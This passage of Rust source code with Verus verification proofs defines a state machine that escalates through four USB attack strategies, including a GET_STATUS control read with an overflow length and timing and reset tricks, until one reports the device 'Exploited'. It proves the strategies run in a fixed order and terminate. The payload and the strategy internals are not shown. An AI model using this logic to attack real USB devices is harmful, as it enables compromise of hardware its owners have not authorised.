    requires
        attempt_wf(a, len),
    ensures
        attempt_next(a, len, ep, ev).1 is Op ==> attempt_measure(attempt_next(a, len, ep, ev).0, len)
            < attempt_measure(a, len),
{
}

/// How the escalation as a whole stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum Verdict {
    Running,
    Exploited(Strategy),
    AllFailed,
}

/// Why each strategy that gave up did so.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub struct FailureLog {
    pub classic: Option<StrategyFailure>,
    pub primed: Option<StrategyFailure>,
    pub aggressive: Option<StrategyFailure>,
    pub reset: Option<StrategyFailure>,
}

pub open spec fn log_failure(log: FailureLog, s: Strategy, f: StrategyFailure) -> FailureLog {
    match s {
        Strategy::ClassicBulkInterrupt => FailureLog { classic: Some(f), ..log },
        Strategy::PrimedDevice => FailureLog { primed: Some(f), ..log },
        Strategy::AggressiveTiming => FailureLog { aggressive: Some(f), ..log },
        Strategy::DeviceReset => FailureLog { reset: Some(f), ..log },
    }
}

fn log_failure_exec(log: FailureLog, s: Strategy, f: StrategyFailure) -> (r: FailureLog)
    ensures
        r == log_failure(log, s, f),
{
    match s {
        Strategy::ClassicBulkInterrupt => FailureLog { classic: Some(f), ..log },
        Strategy::PrimedDevice => FailureLog { primed: Some(f), ..log },
        Strategy::AggressiveTiming => FailureLog { aggressive: Some(f), ..log },
        Strategy::DeviceReset => FailureLog { reset: Some(f), ..log },
    }
}

/// What the escalation asks for next.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum EscalationStep {
    Op(UsbOp),
    Exploited(Strategy),
    AllFailed,
}

/// The escalating trigger protocol over a payload of `payload_len` bytes
/// and the bulk endpoint `endpoint`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub struct Escalation {
    pub payload_len: usize,
    pub endpoint: u8,
    pub attempt: Attempt,
    pub verdict: Verdict,
    pub failures: FailureLog,
}

impl Escalation {
    pub open spec fn wf(&self) -> bool {
        self.verdict is Running ==> attempt_wf(self.attempt, self.payload_len)
    }

    /// Starts the strategy at position `k`, and the ones after it for as long
    /// as each fails before asking for anything; all four failed gives `AllFailed`.
    pub open spec fn escalate(self, k: nat) -> (Escalation, EscalationStep)
        decreases 5 - k,
    {
        if k > 4 {
            (Escalation { verdict: Verdict::AllFailed, ..self }, EscalationStep::AllFailed)
        } else {
            let (a, st) = start_attempt(k, self.payload_len, self.endpoint);
            match st {
                StrategyStep::Op(op) => (Escalation { attempt: a, ..self }, EscalationStep::Op(op)),
                StrategyStep::Succeeded => (
                    Escalation { attempt: a, verdict: Verdict::Exploited(strategy_at(k)), ..self },
                    EscalationStep::Exploited(strategy_at(k)),
                ),
                StrategyStep::Failed(f) => Escalation {
                    attempt: a,
                    failures: log_failure(self.failures, strategy_at(k), f),
                    ..self
                }.escalate(k + 1),
            }
        }
    }

    /// One event: the running strategy takes it; its success ends the
    /// escalation, its failure starts the next strategy. A finished
    /// escalation stays as it is.
    pub open spec fn next(self, ev: Result<usize, UsbError>) -> (Escalation, EscalationStep) {
        match self.verdict {
            Verdict::Exploited(s) => (self, EscalationStep::Exploited(s)),
            Verdict::AllFailed => (self, EscalationStep::AllFailed),
            Verdict::Running => {
                let (a, st) = attempt_next(self.attempt, self.payload_len, self.endpoint, ev);
                let s = attempt_strategy(self.attempt);
                match st {
                    StrategyStep::Op(op) => (Escalation { attempt: a, ..self }, EscalationStep::Op(op)),
                    StrategyStep::Succeeded => (
                        Escalation { attempt: a, verdict: Verdict::Exploited(s), ..self },
                        EscalationStep::Exploited(s),
                    ),
                    StrategyStep::Failed(f) => Escalation {
                        attempt: a,
                        failures: log_failure(self.failures, s, f),
                        ..self
                    }.escalate(rank(s) + 1),
                }
            },
        }
    }

    pub open spec fn initial(payload_len: usize, endpoint: u8) -> Escalation {
        Escalation {
            payload_len,
            endpoint,
            attempt: Attempt::Classic(ClassicPhase::InitialWrite),
            verdict: Verdict::Running,
            failures: FailureLog { classic: None, primed: None, aggressive: None, reset: None },
        }
    }

    fn escalate_exec(self, k: u8) -> (r: (Escalation, EscalationStep))
        requires
            1 <= k <= 5,
        ensures
            r == self.escalate(k as nat),
            r.0.wf(),
        decreases 5 - k,
    {
        let len = self.payload_len;
        let ep = self.endpoint;
        if k > 4 {
            return (Escalation { verdict: Verdict::AllFailed, ..self }, EscalationStep::AllFailed);
        }
        let (a, st, s) = if k == 1 {
            (Attempt::Classic(ClassicPhase::InitialWrite), StrategyStep::Op(make_first_chunk(len, 0, CLASSIC_WRITE_TIMEOUT_US)), Strategy::ClassicBulkInterrupt)
        } else if k == 2 {
            (
                Attempt::Primed(PrimedState { phase: PrimedPhase::Priming { done: 1 }, sent: 0, alternate: false }),
                StrategyStep::Op(
                    UsbOp::Control {
                        pause_us: 0,
                        request: ControlRead {
                            request_type: STANDARD_REQUEST_DEVICE_TO_HOST,
                            request: GET_STATUS,
                            value: 0,
                            index: 0,
                            length: OVERFLOW_LENGTH,
                            timeout_us: PRIME_TIMEOUT_US,
                        },
                    },
                ),
                Strategy::PrimedDevice,
            )
        } else if k == 3 {
            let (p, st) = aggressive_start_exec(len, ep);
            (Attempt::Aggressive(p), st, Strategy::AggressiveTiming)
        } else {
            (Attempt::Reset(ResetPhase::Reset), StrategyStep::Op(UsbOp::ResetDevice), Strategy::DeviceReset)
        };
        assert((a, st) == start_attempt(k as nat, len, ep));
        assert(s == strategy_at(k as nat));
        match st {
            StrategyStep::Op(op) => (Escalation { attempt: a, ..self }, EscalationStep::Op(op)),
            StrategyStep::Succeeded => (
                Escalation { attempt: a, verdict: Verdict::Exploited(s), ..self },
                EscalationStep::Exploited(s),
            ),
            StrategyStep::Failed(f) => {
                let failures = log_failure_exec(self.failures, s, f);
                Escalation { attempt: a, failures, ..self }.escalate_exec(k + 1)
            },
        }
    }

    /// The escalation over a payload of `payload_len` bytes sent to the bulk
    /// endpoint `endpoint`, with its first step: strategy 1 begins.
    pub fn start(payload_len: usize, endpoint: u8) -> (r: (Escalation, EscalationStep))
        ensures
            r == Escalation::initial(payload_len, endpoint).escalate(1),
            r.0.wf(),
    {
        let e = Escalation {
            payload_len,
            endpoint,
            attempt: Attempt::Classic(ClassicPhase::InitialWrite),
            verdict: Verdict::Running,
            failures: FailureLog { classic: None, primed: None, aggressive: None, reset: None },
        };
        e.escalate_exec(1)
    }

    /// Hands the outcome of the last operation to the escalation and returns
    /// what to do next.
    pub fn on_event(&mut self, ev: Result<usize, UsbError>) -> (r: EscalationStep)
        requires
            old(self).wf(),
        ensures
            (*final(self), r) == old(self).next(ev),
            final(self).wf(),
    {
        match self.verdict {
            Verdict::Exploited(s) => EscalationStep::Exploited(s),
            Verdict::AllFailed => EscalationStep::AllFailed,
            Verdict::Running => {
                let len = self.payload_len;
                let ep = self.endpoint;
                let (a, st, s) = match self.attempt {
                    Attempt::Classic(p) => {
                        let (q, st) = classic_next_exec(p, len, ep, ev);
                        (Attempt::Classic(q), st, Strategy::ClassicBulkInterrupt)
                    },
                    Attempt::Primed(p) => {
                        let (q, st) = primed_next_exec(p, len, ep, ev);
                        (Attempt::Primed(q), st, Strategy::PrimedDevice)
                    },
                    Attempt::Aggressive(p) => {
                        let (q, st) = aggressive_next_exec(p, len, ep, ev);
                        (Attempt::Aggressive(q), st, Strategy::AggressiveTiming)
                    },
                    Attempt::Reset(p) => {
                        let (q, st) = reset_next_exec(p, len, ep, ev);
                        (Attempt::Reset(q), st, Strategy::DeviceReset)
                    },
                };
                let k: u8 = match s {
                    Strategy::ClassicBulkInterrupt => 1,
                    Strategy::PrimedDevice => 2,
                    Strategy::AggressiveTiming => 3,
                    Strategy::DeviceReset => 4,
                };
                match st {
                    StrategyStep::Op(op) => {
                        self.attempt = a;
                        EscalationStep::Op(op)
                    },
                    StrategyStep::Succeeded => {
                        self.attempt = a;
                        self.verdict = Verdict::Exploited(s);
                        EscalationStep::Exploited(s)
                    },
                    StrategyStep::Failed(f) => {
                        let failures = log_failure_exec(self.failures, s, f);
                        let (e, r) = Escalation { attempt: a, failures, ..*self }.escalate_exec(k + 1);
                        *self = e;
                        r
                    },
                }
            },
        }
    }
}


/// Escalating from position `k` either ends the escalation or leaves a
/// strategy at position `k` or later running.
pub proof fn lemma_escalate_moves_forward(e: Escalation, k: nat)
    requires
        k >= 1,
    ensures
        e.escalate(k).0.verdict is Running ==> rank(attempt_strategy(e.escalate(k).0.attempt)) >= k,
        e.escalate(k).0.payload_len == e.payload_len,
        e.escalate(k).0.endpoint == e.endpoint,
    decreases 5 - k,
{
    if k <= 4 {
        let (a, st) = start_attempt(k, e.payload_len, e.endpoint);
        if st is Failed {
            lemma_escalate_moves_forward(
                Escalation {
                    attempt: a,
                    failures: log_failure(e.failures, strategy_at(k), st->Failed_0),
                    ..e
                },
                k + 1,
            );
        }
    }
}

/// The strategies run in the fixed order 1, 2, 3, 4: a step never goes back
/// to an earlier strategy, and moves on to a later one only when the running
/// strategy failed. When the running strategy succeeds the escalation ends
/// with that strategy, and an ended escalation takes no further step, so no
/// later strategy ever runs. While the same strategy keeps running, its
/// measure drops at every step, so the escalation as a whole ends.
pub proof fn lemma_escalation_order(e: Escalation, ev: Result<usize, UsbError>)
    requires
        e.wf(),
    ensures
        ({
            let (e2, r) = e.next(ev);
            let st = attempt_next(e.attempt, e.payload_len, e.endpoint, ev).1;
            &&& e.verdict is Running && e2.verdict is Running ==> rank(attempt_strategy(e2.attempt))
                >= rank(attempt_strategy(e.attempt))
            &&& e.verdict is Running && e2.verdict is Running && attempt_strategy(e2.attempt)
                != attempt_strategy(e.attempt) ==> st is Failed
            &&& e.verdict is Running && st is Succeeded ==> e2.verdict == Verdict::Exploited(
                attempt_strategy(e.attempt),
            ) && r == EscalationStep::Exploited(attempt_strategy(e.attempt))
            &&& !(e.verdict is Running) ==> e2 == e && !(r is Op)
            &&& e.verdict is Running && e2.verdict is Running && attempt_strategy(e2.attempt)
                == attempt_strategy(e.attempt) ==> attempt_measure(e2.attempt, e.payload_len)
                < attempt_measure(e.attempt, e.payload_len)
        }),
{
    if e.verdict is Running {
        lemma_attempt_progress(e.attempt, e.payload_len, e.endpoint, ev);
        let (a, st) = attempt_next(e.attempt, e.payload_len, e.endpoint, ev);
        let s = attempt_strategy(e.attempt);
        if st is Failed {
            lemma_escalate_moves_forward(
                Escalation { attempt: a, failures: log_failure(e.failures, s, st->Failed_0), ..e },
                rank(s) + 1,
            );
        }
    }
}

} // verus!
